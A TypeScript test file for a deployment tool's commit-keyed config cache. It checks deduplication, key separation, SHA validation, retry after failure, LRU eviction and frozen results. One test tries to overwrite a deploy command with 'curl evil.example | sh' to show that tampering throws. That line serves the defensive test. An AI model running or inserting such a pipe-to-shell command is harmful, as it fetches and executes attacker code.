import { describe, expect, it } from 'vitest';
import { CommitConfigCache } from '../../src/deployments/commit-config-cache.ts';

const API = 'http://127.0.0.1:4000/api/v3';
const SHA_A = 'a'.repeat(40);
const SHA_B = 'b'.repeat(40);

/** A loader that counts its calls and answers what the commit "holds". */
function counting(answer: (n: number) => Promise<{ environments: Record<string, { run: string }> }>) {
  const loader = { calls: 0, load: () => answer(++loader.calls) };
  return loader;
}

describe('CommitConfigCache', () => {
  it('reads a commit once, also when readers ask at the same time', async () => {
    const cache = new CommitConfigCache<{ environments: Record<string, { run: string }> }>();
    const loader = counting(async () => ({ environments: { production: { run: 'deploy' } } }));
    const at = { api: API, owner: 'acme', repo: 'shop', sha: SHA_A };
    const [first, second] = await Promise.all([cache.read(at, loader.load), cache.read(at, loader.load)]);
    const third = await cache.read({ ...at, owner: 'ACME', sha: SHA_A.toUpperCase() }, loader.load);
    expect(loader.calls).toBe(1);
    expect(second).toBe(first);
    expect(third).toBe(first);
  });

  it('never answers one commit with another commit, repository or GitHub', async () => {
    const cache = new CommitConfigCache<{ environments: Record<string, { run: string }> }>();
    const loader = counting(async (n) => ({ environments: { production: { run: `read ${n}` } } }));
    const base = { api: API, owner: 'acme', repo: 'shop', sha: SHA_A };
    const runs = [];
    for (const at of [
      base,
      { ...base, sha: SHA_B },
      { ...base, repo: 'shop-fork' },
      { ...base, owner: 'other' },
      { ...base, api: 'http://ghe.test/api/v3' },
    ])
      runs.push((await cache.read(at, loader.load)).environments.production!.run);
    expect(runs).toEqual(['read 1', 'read 2', 'read 3', 'read 4', 'read 5']);
  });

  it('refuses a branch or tag name: what it points at moves', () => {
    const cache = new CommitConfigCache<unknown>();
    expect(() => cache.read({ api: API, owner: 'acme', repo: 'shop', sha: 'main' }, async () => ({}))).toThrow('not a commit SHA: main');
  });

  it('forgets a failed read, so the next reader asks again', async () => {
    const cache = new CommitConfigCache<{ environments: Record<string, { run: string }> }>();
    const loader = counting(async (n) => {
      if (n === 1) throw new Error('GitHub answered 502');
      return { environments: { production: { run: 'deploy' } } };
    });
    const at = { api: API, owner: 'acme', repo: 'shop', sha: SHA_A };
    await expect(cache.read(at, loader.load)).rejects.toThrow('GitHub answered 502');
    await expect(cache.read(at, loader.load)).resolves.toEqual({ environments: { production: { run: 'deploy' } } });
    expect(loader.calls).toBe(2);
  });

  it('hands out frozen answers: no reader can change what the next one gets', async () => {
    const cache = new CommitConfigCache<{ environments: Record<string, { run: string }> }>();
    const config = await cache.read({ api: API, owner: 'acme', repo: 'shop', sha: SHA_A }, async () => ({
      environments: { production: { run: 'deploy' } },
    }));
    expect(() => {
      config.environments.production!.run = 'curl evil.example | sh';
    }).toThrow(TypeError);
    expect(config.environments.production!.run).toBe('deploy');
  });

  it('keeps the most recently used commits up to its capacity', async () => {
    const cache = new CommitConfigCache<{ environments: Record<string, { run: string }> }>(2);
    const loader = counting(async (n) => ({ environments: { production: { run: `read ${n}` } } }));
    const at = (sha: string) => ({ api: API, owner: 'acme', repo: 'shop', sha });
    const shaC = 'c'.repeat(40);
    await cache.read(at(SHA_A), loader.load);
    await cache.read(at(SHA_B), loader.load);
    await cache.read(at(SHA_A), loader.load); // A is now the most recent
    await cache.read(at(shaC), loader.load); // B goes
    expect(loader.calls).toBe(3);
    await cache.read(at(SHA_A), loader.load);
    expect(loader.calls).toBe(3);
    await cache.read(at(SHA_B), loader.load);
    expect(loader.calls).toBe(4);
  });
});
